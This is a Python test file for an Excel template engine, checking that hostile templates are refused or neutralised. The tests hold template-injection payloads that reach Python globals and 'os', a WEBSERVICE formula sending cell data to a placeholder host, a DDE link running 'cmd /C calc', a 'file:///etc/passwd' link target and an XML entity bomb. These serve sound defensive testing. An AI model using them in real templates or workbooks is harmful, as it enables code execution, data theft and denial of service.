"""A template is somebody else's file: what it must not do, and what data must not do to it."""

import io
import re
import resource
import threading
import zipfile
from pathlib import Path

import pytest
from excel_books import LIST, book, part, render, rows, sheet_xml, shown, with_part, with_parts, with_related, written

from drafter.fill.errors import TemplateError, TemplateErrors
from drafter.fill.excel.template import ExcelTemplate

PAYLOADS = [
    "{{ ''.__class__.__mro__ }}",
    "{{ x.__init__.__globals__ }}",
    "{{ x|attr('__class__') }}",
    "{{ self }}{{ self.__init__ }}",
    "{{ cycler.__init__.__globals__.os }}",
    "{{ lipsum() }}",
    "{{ x.format('{0.__class__}') }}",
    "{{ '{0.__class__}'|format(x) }}",
    "{{ x['__class__'] }}",
    "{{ x|map('upper') }}",
    "{% include 'a' %}",
    "{% import 'os' as os %}",
    "{% macro m() %}{% endmacro %}",
    "{% for i in range(10**9) %}{{ i }}{% endfor %}",
    "{% for i in range(99999999) %}{{ i }}{% endfor %}",
    "{{ 'A' * 200000000 }}",
    "{{ '%0300000000d' % 1 }}",
    "{{ 9**9**9 }}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("form", ["{payload}", "a {payload} b"], ids=["alone", "in text"])
def test_a_payload_in_a_cell_is_refused_or_harmless(payload: str, form: str) -> None:
    with pytest.raises((TemplateError, TemplateErrors)):
        ExcelTemplate(book({"A1": form.replace("{payload}", payload)})).render({"x": "chữ"})


@pytest.mark.parametrize("function", ["WEBSERVICE", "_xlfn.WEBSERVICE", "RTD", "CALL", "REGISTER.ID"])
def test_formulas_that_reach_outside_are_refused(function: str) -> None:
    with pytest.raises(TemplateError, match="«S»!A1: công thức dùng hàm"):
        ExcelTemplate(book({"A1": f'={function}("http://x/"&B1)'}))


def test_links_to_programs_and_databases_are_refused() -> None:
    dde = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    with pytest.raises(TemplateError, match="lấy dữ liệu từ chương trình"):
        ExcelTemplate(with_parts(book(LIST), {"xl/externalLinks/externalLink1.xml": dde}))
    base = '<connections xmlns="x"><connection id="1"><dbPr connection="x"/></connection></connections>'
    with pytest.raises(TemplateError, match=re.escape("xl/connections.xml")):
        ExcelTemplate(with_related(book(LIST), "connections", "connections.xml", base))


def test_outside_targets_are_dropped_and_told() -> None:
    def link(xml: str) -> str:
        return xml.replace("</worksheet>", "</worksheet>")

    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        'Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
    )
    source = with_parts(
        with_part(book(LIST), "xl/worksheets/sheet1.xml", link), {"xl/worksheets/_rels/sheet1.xml.rels": rels}
    )
    template = ExcelTemplate(source)
    assert [note.found for note in template.notes] == ["file:///etc/passwd"]
    assert "passwd" not in part(template.render(rows(1)), "xl/worksheets/_rels/sheet1.xml.rels")


@pytest.mark.parametrize("path", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml"])
def test_a_doctype_anywhere_is_refused(path: str) -> None:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
    with pytest.raises(TemplateError, match="DOCTYPE"):
        ExcelTemplate(with_part(book(LIST), path, lambda xml: bomb + xml))


@pytest.mark.parametrize("path", ["xl/workbook.xml", "xl/worksheets/sheet1.xml"])
def test_a_damaged_part_is_told(path: str) -> None:
    with pytest.raises(TemplateError, match="bị hỏng"):
        ExcelTemplate(with_part(book(LIST), path, lambda xml: xml[:-9]))


def test_a_strict_workbook_is_told_and_not_read_as_empty() -> None:
    def strict(xml: str) -> str:
        return xml.replace(
            "http://schemas.openxmlformats.org/spreadsheetml/2006/main", "http://purl.oclc.org/ooxml/spreadsheetml/main"
        )

    with pytest.raises(TemplateError, match="Strict Open XML"):
        ExcelTemplate(with_part(book(LIST), "xl/workbook.xml", strict))


def test_prefixed_elements_and_cells_without_addresses_are_read() -> None:
    def prefixed(xml: str) -> str:
        xml = re.sub(r"<(/?)(?=[a-zA-Z])", r"<\1x:", xml.replace("<?xml", "<?XML"))
        return (
            xml.replace("<?XML", "<?xml")
            .replace('xmlns="', 'xmlns:x="')
            .replace('<x:c r="A4"', "<x:c")
            .replace('<x:c r="B4"', "<x:c")
        )

    out = render(with_part(book(LIST), "xl/worksheets/sheet1.xml", prefixed), rows(1, "hai"))
    assert (written(out)["B5"], shown(out)["B5"], shown(out)["B4"]) == ("=SUM(B3:B4)", 1, "hai")


def test_a_workbook_that_counts_days_from_1904() -> None:
    import datetime as dt

    source = with_part(
        book({"A1": "{{ d }}"}),
        "xl/workbook.xml",
        lambda xml: re.sub(r"<workbookPr[^>]*/>", '<workbookPr date1904="1"/>', xml),
    )
    assert "<v>44886</v>" in sheet_xml(render(source, {"d": dt.date(2026, 11, 22)}))


def test_one_template_serves_many_threads() -> None:
    template = ExcelTemplate(book({**LIST, "C4": "=B4*2"}))
    expected = [template.render(rows(*range(size))) for size in range(1, 30)]
    found: dict[int, bytes] = {}

    def work(size: int) -> None:
        found[size] = template.render(rows(*range(size)))

    threads = [threading.Thread(target=work, args=(size,)) for size in range(1, 30)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [found[size] for size in range(1, 30)] == expected


def test_a_long_list_is_written_with_flat_memory(tmp_path: Path) -> None:
    template = ExcelTemplate(book(LIST))
    data = rows(*range(30_000))
    template.render_to(tmp_path / "a.xlsx", rows(1))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    template.render_to(tmp_path / "b.xlsx", data)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 20_000  # KiB; the sheet's XML is 4.5 MB
    xml = zipfile.ZipFile(tmp_path / "b.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert xml.count("<row ") == 30_003
    assert f"<f>SUM(B3:B30002)</f><v>{sum(range(30_000))}</v>" in xml


def test_a_failed_rendering_leaves_the_old_file_as_it_was(tmp_path: Path) -> None:
    (tmp_path / "a.xlsx").write_bytes(b"old")
    with pytest.raises(TemplateError):
        ExcelTemplate(book(LIST)).render_to(tmp_path / "a.xlsx", {"rows": [{"ten": 1, "so": 1}] * 50 + [{}]})
    assert (tmp_path / "a.xlsx").read_bytes() == b"old"
    assert [path.name for path in tmp_path.iterdir()] == ["a.xlsx"]


def test_what_is_not_touched_is_copied_byte_for_byte() -> None:
    source = with_parts(
        book(LIST, sheets={"T": {"A1": "yên", "B2": "=1+1"}}),
        {"xl/printerSettings1.bin": "máy in", "customXml/item1.xml": "<a/>"},
    )
    out = render(source, rows(1, 2))
    for path in ("xl/theme/theme1.xml", "xl/worksheets/sheet2.xml", "xl/printerSettings1.bin", "customXml/item1.xml"):
        assert zipfile.ZipFile(io.BytesIO(out)).read(path) == zipfile.ZipFile(io.BytesIO(source)).read(path)
